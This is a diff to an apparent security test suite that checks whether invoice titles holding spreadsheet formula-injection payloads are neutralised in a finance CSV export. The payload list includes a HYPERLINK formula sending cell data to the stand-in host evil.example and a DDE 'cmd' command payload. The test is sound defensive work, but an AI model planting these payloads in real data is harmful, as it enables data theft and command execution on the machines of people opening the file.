@@ -1,7 +1,9 @@
-import { randomNonce } from '@kaozhou/api'
+import { setTimeout } from 'node:timers/promises'
+import { type Client, randomNonce } from '@kaozhou/api'
 import type { EndpointShape } from '@kaozhou/api/contract'
 import { deskContract } from '@kaozhou/api/desk'
-import { hasRight, type Right, ROLE_NAMES } from '@kaozhou/domain'
+import { csvOf, hasRight, type Right, ROLE_NAMES } from '@kaozhou/domain'
+import { openCashier } from '../../load/cashier'
 import type { Attack, Attempt, Effort, Target } from '../attack'
 import { demoCookie, newStudent } from '../logged-in'
 import { type SignedCall, signedCall } from '../signed-call'
@@ -180,6 +182,56 @@ export const deskFields: Attack = {
     if (await cookieOf(target, login)) broken.push('a new colleague logs in as one of the demo')
     return verdict(3, broken, bound)
   },
+}
+
+/** A course without a book. */
+const COURSE = 1003
+
+/** What a table program would take for a formula. */
+const FORMULAS = [
+  '=HYPERLINK("https://evil.example/?"&A1,"点这里领发票")',
+  '+1+cmd|"/c calc"!A1',
+  '-2+3+SUM(A1:A9)',
+  '@SUM(1+1)',
+  '＝1+1',
+  '"=1+1',
+]
+
+/** Formulas as titles of invoices, on their way into the files that finance exports. */
+export const deskFormulas: Attack = {
+  id: 'desk-formulas',
+  name: 'formulas as titles of invoices, in the file that the desk exports',
+  async run(target) {
+    const bound = 'each stands as the text that it is'
+    const [student, finance] = [await newStudent(target), await cookieOf(target, 'finance')]
+    if (!student || !finance) return NOT_TRIED(bound)
+    const id = await paidOrder(student.client)
+    const broken: string[] = []
+    for (const title of FORMULAS) {
+      await student.client.orders.askInvoice({ id, kind: 'person', title })
+      const path = `/api/desk/invoices?queue=requested&q=${id}`
+      const { data } = await get<{ list: { title: string }[] }>(target, path, finance)
+      const [row] = data?.list ?? []
+      if (row?.title !== title) broken.push(`${title} came as ${row?.title}`)
+      const [, cell = ''] = csvOf({ columns: ['抬头'], rows: [[row?.title ?? '']] }).split('\r\n')
+      const read = cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell
+      if (/^[=+\-@＝＋－＠\s]/.test(read)) broken.push(`${title} stands as ${cell}`)
+      await student.client.orders.withdrawInvoice({ id })
+    }
+    return verdict(FORMULAS.length, broken, bound)
+  },
+}
+
+async function paidOrder(client: Client): Promise<string> {
+  const { checkoutKey, price } = await client.buying.singleConfirm({ courseId: COURSE })
+  const { id } = await client.buying.single({ checkoutKey, total: price.total })
+  const pay = await openCashier(client, id)
+  await pay()
+  for (let tries = 0; tries < 200; tries += 1) {
+    if ((await client.orders.state({ id })).status === 'paid') return id
+    await setTimeout(100)
+  }
+  throw new Error('the payment did not arrive')
 }
 
 interface PersonRead {
